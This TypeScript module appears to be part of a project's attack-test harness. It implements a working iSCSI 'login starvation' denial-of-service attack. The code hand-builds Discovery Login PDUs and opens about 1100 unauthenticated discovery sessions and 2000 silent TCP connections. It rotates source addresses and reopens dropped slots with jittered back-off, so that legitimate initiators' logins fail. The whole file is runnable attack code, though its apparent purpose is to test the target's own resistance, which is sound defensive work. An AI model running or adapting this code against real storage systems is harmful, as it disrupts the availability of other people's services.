// Issue #14 item 1, "iSCSI login starvation": a client with no credentials holds what the portal
// gives away before authentication — discovery sessions (SessionType=Discovery needs no CHAP,
// RFC 7143 §4.3) and TCP connections that never send a Login Request — hoping to exhaust the
// session table and the login slots so that real nodes' logins fail with 0x0302.
//
// Each of its slots is one connection from one of the given source addresses (round robin):
//  - a discovery slot completes a one-PDU Discovery login (CSG 1 → NSG 3, no security stage,
//    §6.3) and then sends nothing;
//  - a bare slot connects and never sends a byte.
// A slot whose connection ends is opened again while the attack runs: soon after a close by the
// target (a deadline), with a growing back-off (1 s → 8 s) after a refusal, as a persistent
// attacker would. The target turns a connection away with a TCP reset and ends one at a deadline
// with a FIN; that is how the two are told apart (a discovery login may also be answered 0x0302).
// The counts are the attacker's view: a connection the kernel completed but the target has not
// accepted yet (its listen backlog) counts as open here and costs the target nothing. Login PDUs are built here by hand (no initiator codec in src/), like
// test/iscsi/helpers/initiator.ts.
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import type { Attack, AttackTarget, RunningAttack } from './types.js';

const DISCOVERY_SESSIONS = 1100;
const BARE_CONNECTIONS = 2000;
/** Connection attempts in flight at once (stays under the listen backlog). */
const CONNECTING_MAX = 256;
const REOPEN_AFTER_CLOSE_MS = 100;
const BACKOFF_FIRST_MS = 1000;
const BACKOFF_MAX_MS = 8000;

interface Counters {
  discoveryOpened: number;
  bareOpened: number;
  /** Discovery sessions up now (login answered with success, connection still open). */
  discoveryUp: number;
  /** Bare connections open now (the attacker's view; see the header). */
  bareOpen: number;
  /** Discovery logins answered with a non-zero status, or closed before their answer. */
  discoveryRefused: number;
  /** Bare connections the target reset (turned away at accept). */
  bareRefused: number;
  /** Held connections the target closed later (its idle/total deadlines). */
  closedByTarget: number;
  /** Connects that failed for another reason (EADDRNOTAVAIL, EMFILE, ECONNREFUSED...). */
  connectErrors: number;
}

/** A Discovery Login Request (§11.12): immediate, T=1, CSG=1 (operational), NSG=3 (full feature). */
function discoveryLogin(initiatorName: string): Buffer {
  const text = Buffer.from(
    [
      ['InitiatorName', initiatorName],
      ['SessionType', 'Discovery'],
      ['HeaderDigest', 'None'],
      ['DataDigest', 'None'],
      ['MaxRecvDataSegmentLength', '8192'],
    ]
      .map(([k, v]) => `${k}=${v}\0`)
      .join(''),
  );
  const bhs = Buffer.alloc(48);
  bhs[0] = 0x43; // immediate + Login Request
  bhs[1] = 0x80 | (1 << 2) | 3; // T, CSG 1, NSG 3
  bhs.writeUIntBE(text.length, 5, 3);
  bhs[8] = 0x80; // ISID type: random
  randomBytes(5).copy(bhs, 9);
  bhs.writeUInt32BE(1, 16); // ITT
  bhs.writeUInt32BE(1, 24); // CmdSN
  return Buffer.concat([bhs, text, Buffer.alloc((4 - (text.length % 4)) % 4)]);
}

class Slot {
  private sock: Socket | undefined;
  private timer: NodeJS.Timeout | undefined;
  private backoff = BACKOFF_FIRST_MS;

  constructor(
    private readonly run: Run,
    readonly kind: 'discovery' | 'bare',
    private readonly source: string | undefined,
    private readonly n: number,
  ) {}

  /** Opens the connection; `settled` runs once this attempt is held, refused or failed. */
  open(settled: () => void): void {
    const c = this.run.c;
    let connected = false;
    let up = false; // counted as held (discoveryUp / bareHeld)
    let answered = false;
    let reset = false; // the target answered with a TCP reset
    let failed = false; // the connect failed for a reason other than the target's reset
    let done = false;
    const settle = (): void => {
      if (!done) {
        done = true;
        settled();
      }
    };
    let rx = Buffer.alloc(0);
    const s = connect({ host: this.run.t.host, port: this.run.t.iscsiPort, ...(this.source ? { localAddress: this.source } : {}) });
    this.sock = s;
    s.on('connect', () => {
      connected = true;
      if (this.kind === 'bare') {
        c.bareOpened++;
        c.bareOpen++;
        up = true;
        settle();
      } else {
        c.discoveryOpened++;
        s.write(discoveryLogin(`iqn.2026-12.example.attack:d${this.n}`));
      }
    });
    s.on('data', (d: Buffer) => {
      if (this.kind !== 'discovery' || answered) return;
      rx = Buffer.concat([rx, d]);
      if (rx.length < 48) return;
      answered = true;
      if (rx[0]! === 0x23 && rx[36] === 0) {
        c.discoveryUp++;
        up = true;
      } else {
        c.discoveryRefused++;
        s.destroy();
      }
      settle();
    });
    s.on('error', (e: NodeJS.ErrnoException) => {
      if (!this.run.running) return;
      if (e.code === 'ECONNRESET') reset = true;
      else if (!connected) {
        failed = true;
        c.connectErrors++;
      }
    });
    s.on('close', () => {
      if (this.sock === s) this.sock = undefined;
      if (up) {
        if (this.kind === 'bare') c.bareOpen--;
        else c.discoveryUp--;
      }
      if (!this.run.running) return settle();
      const refused = failed || reset || (this.kind === 'discovery' && !up);
      if (failed) {
        // counted in connectErrors
      } else if (refused) {
        if (this.kind === 'bare') c.bareRefused++;
        else if (!answered) c.discoveryRefused++;
      } else {
        c.closedByTarget++;
      }
      settle();
      const delay = refused ? this.backoff : REOPEN_AFTER_CLOSE_MS;
      this.backoff = refused ? Math.min(BACKOFF_MAX_MS, this.backoff * 2) : BACKOFF_FIRST_MS;
      // ±50% jitter: refusals come in waves, and so would the retries.
      this.timer = setTimeout(() => this.run.enqueue(this), delay * (0.5 + Math.random()));
    });
  }

  stop(): void {
    if (this.timer) clearTimeout(this.timer);
    this.sock?.destroy();
  }
}

class Run implements RunningAttack {
  running = true;
  readonly c: Counters = {
    discoveryOpened: 0,
    bareOpened: 0,
    discoveryUp: 0,
    bareOpen: 0,
    discoveryRefused: 0,
    bareRefused: 0,
    closedByTarget: 0,
    connectErrors: 0,
  };
  readonly slots: Slot[] = [];
  private readonly queue: Slot[] = [];
  private connecting = 0;
  private firstRound = 0;
  private fullStrength: (() => void) | undefined;

  constructor(readonly t: AttackTarget) {}

  /** Resolves once every slot has made its first attempt. */
  start(): Promise<void> {
    return new Promise((resolve) => {
      this.fullStrength = resolve;
      for (const s of this.slots) this.enqueue(s);
      if (this.slots.length === 0) resolve();
    });
  }

  enqueue(s: Slot): void {
    if (!this.running) return;
    this.queue.push(s);
    this.pump();
  }

  private pump(): void {
    while (this.running && this.connecting < CONNECTING_MAX && this.queue.length > 0) {
      const s = this.queue.shift()!;
      this.connecting++;
      let first = true;
      s.open(() => {
        this.connecting--;
        if (first && ++this.firstRound === this.slots.length) this.fullStrength?.();
        first = false;
        this.pump();
      });
    }
  }

  stats(): Record<string, number> {
    const c = this.c;
    return {
      ...c,
      opened: c.discoveryOpened + c.bareOpened,
      held: c.discoveryUp + c.bareOpen,
      refused: c.discoveryRefused + c.bareRefused,
    };
  }

  async stop(): Promise<void> {
    this.running = false;
    this.queue.length = 0;
    for (const s of this.slots) s.stop();
    this.fullStrength?.();
    // Let the destroyed sockets' close events run before the caller checks the target.
    await new Promise((r) => setImmediate(r));
  }
}

export const attack: Attack = {
  name: 'iscsi-login-starvation',
  what: 'issue #14 item 1: idle discovery sessions (no CHAP) and TCP connections that never log in, held to exhaust the sessions and login slots that nodes need',
  async start(t, o = {}) {
    const scale = o.scale ?? 1;
    const sources = t.sourceAddresses && t.sourceAddresses.length > 0 ? t.sourceAddresses : [undefined];
    const run = new Run(t);
    const discovery = Math.round(DISCOVERY_SESSIONS * scale);
    const bare = Math.round(BARE_CONNECTIONS * scale);
    for (let i = 0; i < discovery + bare; i++) {
      run.slots.push(new Slot(run, i < discovery ? 'discovery' : 'bare', sources[i % sources.length], i));
    }
    await run.start();
    return run;
  },
};
